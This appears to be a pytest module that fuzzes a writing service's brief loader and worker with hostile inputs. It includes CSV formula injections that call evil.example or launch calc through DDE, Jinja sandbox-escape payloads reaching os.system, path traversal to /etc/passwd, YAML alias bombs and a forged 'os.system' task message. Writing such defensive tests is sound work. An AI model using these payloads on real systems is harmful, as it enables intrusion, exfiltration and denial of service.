"""Hostile input: brief files and task messages written to break copydesk, generated with hypothesis and by hand.

Each class has a hypothesis test at the loading level (fast: a file a case, every format that applies), where
every hostile record sits next to a good one: the hostile record must give a clear per-record problem (or,
where the value is merely large, a brief within the limits), the good record must still load (*lost* counts
good records missing without a whole-file reason), and any exception out of the loader is a crash. The
template test renders every generated payload with the real prompt templates and through a job file, and
checks it comes out literally. The last test submits hand-made hostile records of every class, mixed with
good ones, in five files to a real ``copydesk worker``, and puts malformed task messages on its queue.
"""

from __future__ import annotations

import json
import shutil
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from hostile_helpers import (
    SUFFIXES,
    CaseCounter,
    PoolWatch,
    assert_clear_problem,
    dump_records,
    embedded_broker_url,
    json_task_body,
    load_items,
    publish_raw,
    reliability_deployment,
    write_test_style,
)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from ledger import Ledger, lost_and_duplicated
from model_fixtures import tiny_model_dir
from queue_helpers import Deployment, wait_until

from worker.config import PROJECT_ROOT
from worker.errors import StyleError
from worker.intake.briefs import MAX_TARGET_WORDS, Brief, ContentType
from worker.intake.loading import BriefProblem, SourcedBrief
from worker.jobs.expansion import RunContext, expand
from worker.jobs.job_files import job_path, load_job
from worker.jobs.job_spec import JobFileError
from worker.pipeline.prompts import PromptRenderer
from worker.queue.submit import FileBriefs
from worker.styles.catalog import Style, StyleCatalog
from worker.tasks.training import train_style_task
from worker.tasks.write import run_scheduled_job, write_brief

__all__ = ["tiny_model_dir"]  # fixture used by name

AREA = "hostile input"
GOOD = {"id": "good-1", "title": "How to plant tomatoes", "tags": ["garden"]}
TEXT_FIELDS = ("title", "audience", "category", "tone", "notes")
LIST_FIELDS = ("tags", "keywords")
NAME_FIELDS = ("id", "style")
CONTROL_CHARS = [chr(c) for c in [*range(0, 9), *range(11, 32), *range(127, 160)]] + [
    "\u2028",
    "\u2029",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
]
HEALTH = [HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much, HealthCheck.large_base_example]
SETTINGS = {"deadline": None, "suppress_health_check": HEALTH, "database": None}


@dataclass
class Outcome:
    briefs: list[SourcedBrief]
    problems: list[BriefProblem]

    @property
    def file_level(self) -> bool:
        return any(not p.record for p in self.problems)

    def good_loaded(self) -> int:
        return sum(1 for b in self.briefs if b.brief.id == GOOD["id"])

    def others(self) -> list[SourcedBrief]:
        return [b for b in self.briefs if b.brief.id != GOOD["id"]]


def load(path: Path) -> Outcome:
    items = load_items(path)
    for item in items:
        if isinstance(item, BriefProblem):
            assert_clear_problem(item, path)
    return Outcome([i for i in items if isinstance(i, SourcedBrief)], [i for i in items if isinstance(i, BriefProblem)])


def account(counter: CaseCounter, outcome: Outcome, *, whole_file_ok: bool) -> None:
    """Count the good record (lost unless a whole-file problem explains it, duplicated if loaded twice)."""
    counter.records += 2
    good = outcome.good_loaded()
    if good == 0 and not (whole_file_ok and outcome.file_level):
        counter.lost += 1
    counter.duplicates += max(0, good - 1)


def record(row: Any, counter: CaseCounter) -> None:
    row.add(
        runs=1,
        faults=counter.cases,
        briefs=counter.records,
        lost=counter.lost,
        duplicates=counter.duplicates,
        crashes=counter.crashes,
    )


def check_counter(counter: CaseCounter) -> None:
    assert counter.crashes == 0, counter.crash_examples[:5]
    assert counter.lost == 0 and counter.duplicates == 0, counter


@pytest.fixture
def scratch() -> Iterator[Path]:
    """A directory for the files of a hypothesis test (tmp_path is function-scoped: one for all cases)."""
    folder = Path(tempfile.mkdtemp(prefix="copydesk-hostile-"))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def run_counted(row: Any, counter: CaseCounter, body: Callable[[], None]) -> None:
    try:
        body()
    finally:
        record(row, counter)
    check_counter(counter)


# ------------------------------------------------------------------------------------------------ huge fields


def test_huge_fields(ledger: Ledger, scratch: Path) -> None:
    row = ledger.row(
        AREA,
        "huge fields",
        injection="hypothesis: one field of a record made huge (301 B-1.1 MB text, 31-50,000 list items, "
        "integers of up to 6,000 digits), next to a good record, in JSONL, CSV, JSON and YAML",
        checked="a per-record problem naming the field (or a whole-file size/number problem), short and one line; "
        "target_words only capped; the good record still loads; the loader never raises",
    )
    counter = CaseCounter()
    fields = [*TEXT_FIELDS, *LIST_FIELDS, *NAME_FIELDS, "target_words", "content_type", "x" * 5000]
    limits = {
        "title": 300,
        "audience": 300,
        "category": 300,
        "tone": 300,
        "notes": 2000,
        "id": 128,
        "style": 128,
        "tags": 80,
        "keywords": 80,
    }

    @settings(max_examples=120, **SETTINGS)
    @given(
        field=st.sampled_from(fields),
        size=st.sampled_from([301, 2_001, 10_000, 70_000, 140_000, 1_100_000]) | st.integers(129, 20_000),
        char=st.characters(min_codepoint=33, max_codepoint=0x2FFF, exclude_categories=("Cs", "Cc", "Zl", "Zp")),
        many=st.booleans(),
        suffix=st.sampled_from(SUFFIXES),
    )
    def case(field: str, size: int, char: str, many: bool, suffix: str) -> None:
        size = max(size, limits.get(field, 0) + 1)  # always over the field's limit
        if suffix == ".yaml":
            size = min(size, 20_000)  # the alias-refusing YAML parser is pure Python (~2 s/MiB)
        if char in ";," and field in LIST_FIELDS:
            char = "x"
        digits = b"9" * min(max(size // 10, 4), 6_000)
        if field == "target_words":  # written as digits into the file: Python will not print 4,300+ digits
            value: Any = "__BIGINT__"
        elif field in LIST_FIELDS:
            value = ["t"] * min(size, 50_000) if many else [char * size]
        else:
            value = char * size
        with counter.case():
            path = dump_records(scratch / f"huge{suffix}", [{"title": "x", field: value}, GOOD])
            if field == "target_words":
                path.write_bytes(path.read_bytes().replace(b'"__BIGINT__"', digits).replace(b"__BIGINT__", digits))
            outcome = load(path)
            # A whole-file problem is legitimate for JSON/YAML (parsed whole) and for an unknown CSV column.
            whole_file_ok = suffix in (".json", ".yaml") or (suffix == ".csv" and field not in Brief.model_fields)
            account(counter, outcome, whole_file_ok=whole_file_ok)
            blank = isinstance(value, str) and not value.strip()  # e.g. 301 no-break spaces: no text at all
            for sourced in outcome.others():  # only a large target_words may load (capped), or a blank field
                if blank:  # stripped away: the brief loads without it
                    assert value not in sourced.brief.model_dump_json(), sourced
                    continue
                assert field == "target_words" and sourced.brief.target_words == MAX_TARGET_WORDS, sourced
            if not outcome.others():
                assert outcome.problems, "a huge field was accepted silently"

    run_counted(row, counter, case)


# ------------------------------------------------------------------------------------------- control characters


def test_control_characters(ledger: Ledger, scratch: Path) -> None:
    row = ledger.row(
        AREA,
        "control characters",
        injection="hypothesis: a C0/C1 control, DEL, bidi override or line/paragraph separator at a random place "
        "in one text, list or name field, next to a good record, in JSONL, CSV, JSON and YAML",
        checked="a per-record problem (naming the field where the format lets the record parse) whose message "
        "is printable; the good record still loads; the loader never raises",
    )
    counter = CaseCounter()

    @settings(max_examples=200, **SETTINGS)
    @given(
        field=st.sampled_from([*TEXT_FIELDS, *LIST_FIELDS, *NAME_FIELDS]),
        char=st.sampled_from(CONTROL_CHARS),
        before=st.text(alphabet="abcdefghij klmnop", max_size=12),
        after=st.text(alphabet="qrstuvwxyz ABC", max_size=12),
        suffix=st.sampled_from(SUFFIXES),
    )
    def case(field: str, char: str, before: str, after: str, suffix: str) -> None:
        text = f"a{before}{char}{after}b"
        value: Any = [text] if field in LIST_FIELDS else text
        hostile = {"title": "x", field: value} if field != "title" else {field: value}
        with counter.case():
            path = dump_records(scratch / f"control{suffix}", [hostile, GOOD])
            outcome = load(path)
            account(counter, outcome, whole_file_ok=suffix in (".json", ".yaml"))
            assert not outcome.others(), f"control character {char!r} accepted in {field}"
            assert outcome.problems
            if suffix in (".jsonl", ".json", ".yaml"):  # the record parses: the problem is on the field
                assert any(p.field.split(".")[0] == field for p in outcome.problems), outcome.problems

    run_counted(row, counter, case)


# ------------------------------------------------------------------------------------------------ invalid UTF-8

ALWAYS_INVALID = [b"\xff", b"\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf5\x80\x80\x80", b"\xc3\x28", b"\xf8\x88\x80\x80"]


def test_invalid_utf8(ledger: Ledger, scratch: Path) -> None:
    row = ledger.row(
        AREA,
        "invalid UTF-8",
        injection="hypothesis: random bytes around an always-invalid sequence (0xFF, overlong, surrogate, ...) "
        "inside a field of the middle record of three, in JSONL, CSV, JSON and YAML",
        checked="JSONL/CSV: a problem on that line only, both neighbours load; JSON/YAML: a whole-file problem "
        "naming the line; the loader never raises",
    )
    counter = CaseCounter()

    @settings(max_examples=150, **SETTINGS)
    @given(
        prefix=st.binary(max_size=6),
        bad=st.sampled_from(ALWAYS_INVALID),
        suffix_bytes=st.binary(max_size=6),
        suffix=st.sampled_from(SUFFIXES),
    )
    def case(prefix: bytes, bad: bytes, suffix_bytes: bytes, suffix: str) -> None:
        junk = bytes(c for c in prefix + bad + suffix_bytes if c not in b'\n\r,"\\\x00')
        records = [{"id": "first", "title": "First one"}, {"title": "MARK"}, GOOD]
        with counter.case():
            path = dump_records(scratch / f"utf8{suffix}", records)
            path.write_bytes(path.read_bytes().replace(b"MARK", b"M" + junk + b"K", 1))
            outcome = load(path)
            account(counter, outcome, whole_file_ok=suffix in (".json", ".yaml"))
            counter.records += 1
            if suffix in (".jsonl", ".csv"):
                ids = sorted(b.brief.id for b in outcome.briefs)
                assert ids == ["first", "good-1"], outcome
                assert [p.message.startswith("invalid UTF-8") for p in outcome.problems] == [True], outcome.problems
                if sum(b.brief.id == "first" for b in outcome.briefs) != 1:
                    counter.lost += 1
            else:
                assert not outcome.briefs and len(outcome.problems) == 1, outcome
                assert "invalid UTF-8 at line" in outcome.problems[0].message, outcome.problems

    run_counted(row, counter, case)


# ------------------------------------------------------------------------------------------ deep nesting (YAML)


def nested_yaml(depth: int, flow: bool, where: str) -> str:
    if flow:
        inner = "[" * depth + "x" + "]" * depth
    else:
        inner = "".join(f"\n{'  ' * (level + 2)}- " for level in range(depth)) + "x"
    if where == "document":
        return f"- {inner}\n- {json.dumps(GOOD)}\n"
    return f"- title: x\n  tags: {inner}\n- {json.dumps(GOOD)}\n"


def test_deeply_nested_input(ledger: Ledger, scratch: Path) -> None:
    row = ledger.row(
        AREA,
        "deeply nested YAML (and JSON)",
        injection="hypothesis: lists nested 2-20,000 deep, flow and block style, as a document item or in a field, "
        "in YAML, JSON and JSONL",
        checked="refused as a whole-file problem (YAML deeper than 32) or a per-record problem (deeper than 6, or "
        "not a list of text); never a RecursionError; under 5 s a case",
    )
    counter = CaseCounter()

    @settings(max_examples=80, **SETTINGS)
    @given(
        depth=st.integers(2, 200) | st.sampled_from([33, 1_000, 20_000]),
        flow=st.booleans(),
        where=st.sampled_from(["document", "field"]),
        suffix=st.sampled_from([".yaml", ".json", ".jsonl"]),
    )
    def case(depth: int, flow: bool, where: str, suffix: str) -> None:
        with counter.case():
            path = scratch / f"deep{suffix}"
            if suffix == ".yaml":
                if not flow:
                    depth = min(depth, 1_000)  # block style: the text grows with the square of the depth
                path.write_text(nested_yaml(depth, flow, where), encoding="utf-8")
            else:
                text = "[" * depth + '"x"' + "]" * depth
                hostile = text if where == "document" else '{"title": "x", "tags": ' + text + "}"
                if suffix == ".json":
                    path.write_text(f"[{hostile}, {json.dumps(GOOD)}]", encoding="utf-8")
                else:
                    path.write_text(f"{hostile}\n{json.dumps(GOOD)}\n", encoding="utf-8")
            started = time.monotonic()
            outcome = load(path)
            assert time.monotonic() - started < 5
            account(counter, outcome, whole_file_ok=suffix in (".json", ".yaml"))
            assert not outcome.others() and outcome.problems, outcome

    run_counted(row, counter, case)


# -------------------------------------------------------------------------------------------- YAML alias bombs


def alias_bomb(levels: int, fanout: int, anchor: str, where: str) -> str:
    lines = [f'- &{anchor}0 "lol"']
    for level in range(1, levels + 1):
        refs = ", ".join([f"*{anchor}{level - 1}"] * fanout)
        lines.append(f"- &{anchor}{level} [{refs}]")
    top = f"*{anchor}{levels}"
    if where == "merge":
        lines.append(f"- {{title: x, <<: {{notes: {top}}}}}")
    elif where == "field":
        lines.append(f"- {{title: x, tags: {top}}}")
    else:
        lines.append(f"- {top}")
    lines.append(f"- {json.dumps(GOOD)}")
    return "\n".join(lines) + "\n"


def test_yaml_alias_bombs(ledger: Ledger, scratch: Path) -> None:
    row = ledger.row(
        AREA,
        "YAML alias bombs",
        injection="hypothesis: billion-laughs documents, 1-12 levels x 2-12 aliases a level (up to 12^12 nodes), "
        "random anchor names, used as an item, a field or a merge key, in a brief file and in a job file",
        checked="refused as a whole-file problem naming aliases, in under 2 s; the loader never raises",
    )
    counter = CaseCounter()

    @settings(max_examples=80, **SETTINGS)
    @given(
        levels=st.integers(1, 12),
        fanout=st.integers(2, 12),
        anchor=st.from_regex(r"[a-z][a-z0-9_]{0,8}", fullmatch=True),
        where=st.sampled_from(["item", "field", "merge"]),
        job=st.booleans(),
    )
    def case(levels: int, fanout: int, anchor: str, where: str, job: bool) -> None:
        text = alias_bomb(levels, fanout, anchor, where)
        with counter.case():
            started = time.monotonic()
            if job:
                path = scratch / "bomb.yaml"
                body = "\n".join("  " + line for line in text.splitlines())
                path.write_text(f"briefs:\n{body}\n", encoding="utf-8")
                with pytest.raises(JobFileError) as refused:
                    load_job(path)
                problems = refused.value.problems
            else:
                path = dump_path = scratch / "bomb.yaml"
                dump_path.write_text(text, encoding="utf-8")
                outcome = load(path)
                account(counter, outcome, whole_file_ok=True)
                assert not outcome.briefs
                problems = outcome.problems
            assert time.monotonic() - started < 2.0
            assert len(problems) == 1 and "aliases" in problems[0].message, problems

    run_counted(row, counter, case)


# ------------------------------------------------------------------------------------------ CSV formula injection

FORMULA_PREFIXES = ["=", "+", "-", "@", "\t=", " =", "=+", "=-"]
FORMULA_BODIES = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"click")',
    "1+1",
    "SUM(A1:A9)",
    'DDE("cmd","/C calc","")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "2*3",
    "rundll32|'shell32.dll,ShellExec_RunDLL calc'!A0",
]


def test_csv_formula_injection(ledger: Ledger, scratch: Path) -> None:
    row = ledger.row(
        AREA,
        "CSV formula injection",
        injection="hypothesis: spreadsheet formulas (=cmd|..., =HYPERLINK, DDE, @SUM, +, -) in every text and list "
        "cell of a CSV row",
        checked="the brief loads with each value exactly the cell's text (plain text, nothing evaluated) and the "
        "prompt shows it literally; the good row still loads",
    )
    counter = CaseCounter()
    renderer = PromptRenderer(PROJECT_ROOT / "templates")
    style = Style(name="calm", description="d")

    @settings(max_examples=150, **SETTINGS)
    @given(
        prefix=st.sampled_from(FORMULA_PREFIXES),
        body=st.sampled_from(FORMULA_BODIES),
        salt=st.integers(0, 10**6),
        content_type=st.sampled_from(list(ContentType)),
    )
    def case(prefix: str, body: str, salt: int, content_type: ContentType) -> None:
        formula = f"{prefix}{body}{salt}"
        expected = formula.strip()
        hostile = {f: formula for f in TEXT_FIELDS} | {f: [formula] for f in LIST_FIELDS}
        hostile["content_type"] = str(content_type)
        with counter.case():
            path = dump_records(scratch / "formula.csv", [hostile, GOOD])
            outcome = load(path)
            account(counter, outcome, whole_file_ok=False)
            assert not outcome.problems and len(outcome.others()) == 1, outcome
            brief = outcome.others()[0].brief
            assert brief.title == expected and brief.notes == expected and brief.tags == [expected], brief
            assert brief.audience == brief.category == brief.tone == expected.lower(), brief
            prompt = renderer.render(brief, style).user
            assert prompt.count(expected) >= 4, prompt  # title, notes, tags, keywords

    run_counted(row, counter, case)


# ------------------------------------------------------------------------------------ template syntax everywhere

TEMPLATE_FORMS = [
    "{{{{ {a}*{b} }}}}",
    "{{{{{a}*{b}}}}}",
    "{{% if true %}}{{{{ {a}*{b} }}}}{{% endif %}}",
    "{{% for i in range(3) %}}{{{{ {a}*{b} }}}}{{% endfor %}}",
    "{{{{ ({a}*{b})|string }}}}",
    "{{{{ cycler.__init__.__globals__.os.system('echo {a}') }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{a}",
    "{{{{ lipsum.__globals__ }}}}{b}",
    "{{# {a} #}}{{{{ {a}*{b} }}}}",
    "${{{a}*{b}}}",
    "#{{{a}*{b}}}",
    "<%= {a}*{b} %>",
    "{{{{ self }}}}{{{{ {a}*{b} }}}}",
    "{{% raw %}}{{{{ {a}*{b} }}}}{{% endraw %}}",
    "{{{{ config.items() }}}}{a}",
    "{{{{ request.application.__globals__ }}}}{b}",
]


def test_template_syntax_in_every_field(ledger: Ledger, scratch: Path) -> None:
    row = ledger.row(
        AREA,
        "template syntax in every field",
        injection="hypothesis: Jinja2 (and ERB/EL/JS) expressions, loops and sandbox-escape payloads with random "
        "operands in every text and list field of a brief (JSONL) and of a job file's rows; id, style and "
        "content_type too",
        checked="every text field comes out literally in the rendered prompt and in the expanded job brief; no "
        "product of the operands appears; id/style/content_type with template syntax are per-record problems",
    )
    counter = CaseCounter()
    renderer = PromptRenderer(PROJECT_ROOT / "templates")
    style = Style(name="calm", description="d", system_prompt="{{ 7*7 }} stays")

    @settings(max_examples=200, **SETTINGS)
    @given(
        form=st.sampled_from(TEMPLATE_FORMS),
        a=st.integers(1_000, 9_999),
        b=st.integers(1_000, 9_999),
        content_type=st.sampled_from(list(ContentType)),
        name_field=st.sampled_from(["id", "style", "content_type"]),
    )
    def case(form: str, a: int, b: int, content_type: ContentType, name_field: str) -> None:
        payload = form.format(a=a, b=b)
        product = str(a * b)
        hostile = {f: payload for f in TEXT_FIELDS} | {f: [payload] for f in LIST_FIELDS}
        hostile["content_type"] = str(content_type)
        named = {"title": "x", name_field: payload}
        with counter.case():
            path = dump_records(scratch / "template.jsonl", [hostile, named, GOOD])
            outcome = load(path)
            account(counter, outcome, whole_file_ok=False)
            counter.records += 1
            assert len(outcome.others()) == 1, outcome
            assert {p.record for p in outcome.problems} == {"line 2"}, outcome.problems
            assert {p.field for p in outcome.problems} == {name_field}, outcome.problems
            brief = outcome.others()[0].brief
            prompt = renderer.render(brief, style, feedback=payload)
            text = prompt.user.lower()
            assert text.count(payload.lower()) >= 8, prompt.user  # 5 text fields, tags, keywords, feedback
            assert product not in prompt.user and product not in prompt.system, prompt.user
            assert prompt.system == "{{ 7*7 }} stays"
            # The same payload as row values of a job file's template.
            job_file = scratch / "templated.yaml"
            job_file.write_text(
                yaml.safe_dump(
                    {
                        "template": {
                            "id": "{{ row.key }}",
                            "title": "Guide: {{ row.topic }}",
                            "tags": ["{{ row.tag }}"],
                            "notes": "{{ row.topic }} / {{ run.date }}",
                        },
                        "rows": [{"key": "r1", "topic": payload, "tag": payload}],
                    }
                ),
                encoding="utf-8",
            )
            expansion = expand(load_job(job_file), RunContext("templated", datetime(2026, 3, 2, 7, tzinfo=UTC)))
            assert not expansion.problems, expansion.problems
            [job_brief] = [item.brief for item in expansion.briefs]
            assert job_brief.title == f"Guide: {payload}" and job_brief.tags == [payload], job_brief
            assert job_brief.notes == f"{payload} / 2026-03-02", job_brief
            assert product not in job_brief.model_dump_json()

    run_counted(row, counter, case)


# ---------------------------------------------------------------------------------------------- path traversal

TRAVERSAL_PARTS = [
    "../",
    "..\\",
    "/",
    "./",
    "~/",
    "%2e%2e%2f",
    "..%2f",
    "....//",
    "\u2025/",
    "\uff0e\uff0e/",
    "..;/",
    "%00",
    "\x00",
    "/./",
    "..",
    "a/..",
    "\\\\server\\share\\",
]
TRAVERSAL_TARGETS = ["etc/passwd", "quick", "outside", "styles/quick", "x.yaml", "", "C:\\Windows\\win.ini", ".", "..."]


def test_path_traversal_in_names(ledger: Ledger, scratch: Path) -> None:
    row = ledger.row(
        AREA,
        "path traversal in style names, ids and job names",
        injection="hypothesis: ../, ..\\, absolute, URL-encoded, full-width and NUL-byte paths (1-6 parts) as a "
        "brief's id and style, as a style name to look up, a job name, and a task message's brief id, job "
        "name and style",
        checked="per-record problem on the field / StyleError / JobFileError / the task ignores the message; a "
        "style planted at the traversal target is never loaded",
    )
    counter = CaseCounter()
    styles = scratch / "styles"
    write_test_style(styles, "quick")
    write_test_style(scratch, "outside")  # a style.yaml one level above the styles directory
    (scratch / "etc").mkdir()
    jobs = scratch / "jobs"
    jobs.mkdir()
    (scratch / "outside.yaml").write_text("briefs: [{title: planted}]\n", encoding="utf-8")
    catalog = StyleCatalog.load(styles)
    slot = "2026-03-02T07:00:00+00:00"

    @settings(max_examples=200, **SETTINGS)
    @given(
        parts=st.lists(st.sampled_from(TRAVERSAL_PARTS), min_size=1, max_size=6),
        target=st.sampled_from(TRAVERSAL_TARGETS),
    )
    def case(parts: list[str], target: str) -> None:
        name = "".join(parts) + target
        with counter.case():
            path = dump_records(
                scratch / "traversal.jsonl", [{"title": "x", "id": name}, {"title": "y", "style": name}, GOOD]
            )
            outcome = load(path)
            account(counter, outcome, whole_file_ok=False)
            counter.records += 1
            assert not outcome.others(), outcome
            assert sorted((p.record, p.field) for p in outcome.problems) == [("line 1", "id"), ("line 2", "style")]
            with pytest.raises(StyleError, match="not a valid style name"):
                catalog.get(name)
            with pytest.raises(JobFileError, match="not valid"):
                job_path(jobs, name)
            assert write_brief.run(name) == {"ignored": "malformed brief id"}
            assert run_scheduled_job.run(name, slot) == {"ignored": "malformed run message"}
            assert train_style_task.run(name) == {"ignored": "malformed style name"}

    run_counted(row, counter, case)
    assert catalog.names == ["quick"]


# ----------------------------------------------------------------------------------------- unknown content types

KNOWN_TYPES = {str(t) for t in ContentType} | {
    "howto",
    "how_to",
    "how to",
    "guide",
    "tutorial",
    "list",
    "explanation",
    "news-story",
    "product-review",
}


def test_unknown_content_types(ledger: Ledger, scratch: Path) -> None:
    row = ledger.row(
        AREA,
        "unknown content types",
        injection="hypothesis: random text, template names (../../etc/passwd, _brief, explainer.j2), numbers "
        "and lists as content_type, in JSONL and CSV",
        checked="a per-record problem on content_type listing the allowed values; never a template lookup; "
        "the good record still loads",
    )
    counter = CaseCounter()
    weird = st.sampled_from(
        [
            "../../etc/passwd",
            "_brief",
            "explainer.j2",
            "prompts/news",
            "HOW-TO.j2",
            "listicle/",
            "{{ 7*7 }}",
            "review\x00",
            "news\n",
            "..",
            "",
        ]
    )

    @settings(max_examples=100, **SETTINGS)
    @given(
        value=(st.text(max_size=30) | weird).filter(lambda v: v.strip().lower() not in KNOWN_TYPES)
        | st.integers()
        | st.lists(st.sampled_from(["news", "review"]), max_size=2),
        suffix=st.sampled_from([".jsonl", ".csv"]),
    )
    def case(value: Any, suffix: str) -> None:
        if suffix == ".csv" and isinstance(value, list):
            suffix = ".jsonl"  # a CSV cell holds text: ["news"] would be the valid "news"
        with counter.case():
            path = dump_records(scratch / f"ctype{suffix}", [{"title": "x", "content_type": value}, GOOD])
            outcome = load(path)
            account(counter, outcome, whole_file_ok=False)
            if suffix == ".csv" and (value == "" or value == [] or (isinstance(value, str) and not value.strip())):
                return  # an empty CSV cell means "not given": the default content type, legitimately
            assert not outcome.others(), (value, outcome)
            assert outcome.problems
            fields = {p.field for p in outcome.problems}
            assert fields <= {"content_type", ""}, outcome.problems
            if "content_type" in fields and not isinstance(value, list):
                assert any("how-to" in p.message for p in outcome.problems), outcome.problems

    run_counted(row, counter, case)


# ----------------------------------------------------------------------------------- a real worker, hand-made


def hostile_jsonl_lines() -> list[bytes]:
    """Hand-made hostile JSONL records, one a line; each must be refused at submit."""
    records: list[Any] = [
        {"title": "T" * 100_000},
        {"title": "x", "notes": "n" * 3_000},
        {"title": "x", "tags": [f"t{i}" for i in range(31)]},
        {"title": "x", "keywords": ["k" * 200]},
        {"title": "esc \x1b[31m red"},
        {"title": "x", "notes": "right-to-left \u202e override"},
        {"title": "x", "category": "line\u2028separator"},
        {"title": "x", "tags": json.loads("[" * 50 + '"x"' + "]" * 50)},
        {"title": "x", "content_type": "poem"},
        {"title": "x", "content_type": "../../etc/passwd"},
        {"title": "x", "id": "../../etc/passwd"},
        {"title": "x", "style": "../styles/quick"},
        {"title": "x", "id": "{{ 7*7 }}"},
        {"title": "x", "style": "quick/../../x"},
        {"title": "x", "__class__": "y"},
        {"title": "x", "target_words": "lots"},
        {"title": "x", "id": "a" * 200},
        {"title": "x", "id": "nul\x00byte"},
        ["a list", "not a mapping"],
    ]
    lines = [json.dumps(r).encode() for r in records]
    lines.append(b'{"title": "invalid \xff\xfe UTF-8"}')
    lines.append(b'{"title": "a", "title": "b"}')
    lines.append(b'{"title": "' + b"L" * (1024 * 1024 + 10) + b'"}')
    lines.append(b'{"title": "unterminated')
    lines.append(b'{"title": "x", "target_words": ' + b"9" * 5000 + b"}")
    return lines


VALID_HOSTILE = {
    "vh-template": {
        "title": "{{ 1234*5678 }} and {% for i in range(3) %}LOOP{% endfor %}",
        "audience": "{{ cycler.__init__.__globals__.os }}",
        "notes": "{{ ''.__class__.__mro__ }}",
        "tags": ["{{ self }}"],
        "keywords": ["${7*7}"],
    },
    "vh-formula": {"title": "=cmd|' /C calc'!A0", "notes": "@SUM(A1:A9)", "tags": ["+1+1", "-2-2"]},
    "vh-maximal": {
        "title": "M" * 300,
        "notes": "N" * 2000,
        "tags": [f"{i:02d}" + "t" * 78 for i in range(30)],
        "audience": "a" * 300,
    },
    "vh-100k-words": {"title": "An article of a hundred thousand words", "target_words": 100_000},
}


@dataclass
class InputRun:
    deployment: Deployment
    submitted: dict[str, Any]
    problems: list[BriefProblem]
    hostile_records: int
    good_ids: list[str]
    valid_hostile_ids: list[str]
    unknown_style_id: str
    messages: int
    marker: Path
    crashes: int
    log: str


@pytest.fixture(scope="module")
def input_run(tmp_path_factory: pytest.TempPathFactory, tiny_model_dir: Path) -> Iterator[InputRun]:
    root = tmp_path_factory.mktemp("hostile-input")
    styles = root / "styles"
    write_test_style(styles, "quick")
    d = reliability_deployment(root, tiny_model_dir, styles, default_style="quick")
    try:
        good_ids = [f"good-{i}" for i in range(4)]
        good = [{"id": b, "title": f"How to keep bees ({b})", "target_words": 50} for b in good_ids]
        hostile = hostile_jsonl_lines()
        jsonl_lines = [json.dumps(good[0]).encode(), *hostile[:12], json.dumps(good[1]).encode(), *hostile[12:]]
        for brief_id, fields in VALID_HOSTILE.items():
            jsonl_lines.append(json.dumps({"id": brief_id, "target_words": 50, **fields}).encode())
        jsonl_lines.append(
            json.dumps(
                {"id": "vh-unknown-style", "title": "Pinned", "style": "nosuchstyle", "target_words": 50}
            ).encode()
        )
        (root / "mixed.jsonl").write_bytes(b"\n".join(jsonl_lines) + b"\n")
        files = [root / "mixed.jsonl"]
        # CSV: a good row, a formula row, a control-character row, an invalid UTF-8 row, a NUL row.
        csv_rows = [
            {"id": good_ids[2], "title": "How to keep hens"},
            {
                "id": "vh-csv-formula",
                "title": '=HYPERLINK("http://evil.example")',
                "notes": "=1+1",
                "tags": ["@a", "=b"],
            },
            {"id": "csv-control", "title": "bell\x07title"},
            {"id": "csv-utf8", "title": "bad UTF8 byte"},
            {"id": "csv-nul", "title": "nul NUL here"},
            {"id": good_ids[3], "title": "How to keep goats"},
        ]
        csv_path = dump_records(root / "mixed.csv", csv_rows)
        csv_path.write_bytes(csv_path.read_bytes().replace(b"UTF8", b"\xff\xfe").replace(b"NUL", b"\x00"))
        files.append(root / "mixed.csv")
        (root / "bomb.yaml").write_text(alias_bomb(9, 9, "lol", "field"), encoding="utf-8")
        (root / "deep.yaml").write_text(nested_yaml(5_000, True, "document"), encoding="utf-8")
        (root / "latin1.json").write_bytes(json.dumps([good[0]]).encode().replace(b"bees", b"b\xe9es"))
        (root / "briefs.txt").write_text("title: not a brief file type\n", encoding="utf-8")
        (root / "big.yaml").write_text(f"- title: x\n  target_words: {'9' * 5000}\n", encoding="utf-8")
        files += [root / n for n in ("bomb.yaml", "deep.yaml", "latin1.json", "briefs.txt", "big.yaml")]
        hostile_records = len(hostile) + 3 + 5  # JSONL, CSV, whole files
        expected = FileBriefs(files)
        list(expected)

        worker = d.start_worker()
        watch = PoolWatch(worker)
        result = d.cli("submit", *map(str, files), "--json")
        assert result.exit_code == 0, result.output
        submitted = json.loads(result.stdout)
        d.wait_for_job(submitted["job_id"], timeout=240)

        # Malformed task messages: traversal ids, wrong types, a huge id, an unregistered task.
        marker = root / "message-marker"
        url = embedded_broker_url(d)
        bodies = [
            ("../../etc/passwd",),
            ("a" * 10_000,),
            (None,),
            ({"$where": "1"},),
            ([1, 2],),
            (),
            ("good-0", "extra-argument"),
        ]
        for args in bodies:
            publish_raw(url, json_task_body(*args), content_type="application/json", content_encoding="utf-8")
        publish_raw(
            url,
            json_task_body(f"touch {marker}"),
            content_type="application/json",
            content_encoding="utf-8",
            task="os.system",
        )
        publish_raw(url, b"{not json", content_type="application/json", content_encoding="utf-8")
        messages = len(bodies) + 2
        wait_until(
            lambda: d.embedded_broker_messages(visible_only=True) == 0,
            timeout=60,
            message=lambda: f"the worker did not take the malformed messages\n{d.logs()}",
        )
        time.sleep(1.0)
        yield InputRun(
            d,
            submitted,
            expected.problems,
            hostile_records,
            good_ids,
            [*VALID_HOSTILE, "vh-csv-formula"],
            "vh-unknown-style",
            messages,
            marker,
            watch.crashes(),
            worker.log(0),
        )
    finally:
        d.kill_all()


def test_a_worker_survives_a_submission_of_hostile_records(input_run: InputRun, ledger: Ledger) -> None:
    row = ledger.row(
        AREA,
        "hostile records through a real worker",
        injection="hand-made: 32 hostile records of every class above in JSONL, CSV and 5 whole files (alias bomb, "
        "20,000-deep YAML, Latin-1 JSON, .txt, 5,000-digit YAML integer), mixed with good briefs and valid briefs "
        "full of template syntax, formulas, maximal fields and 100,000 words, submitted as one job",
        checked="each hostile record/file a per-record problem, never enqueued; good and valid-hostile briefs: one "
        "article each, stored text literal; a pinned unknown style fails naming it; worker and pool alive",
    )
    d = input_run.deployment
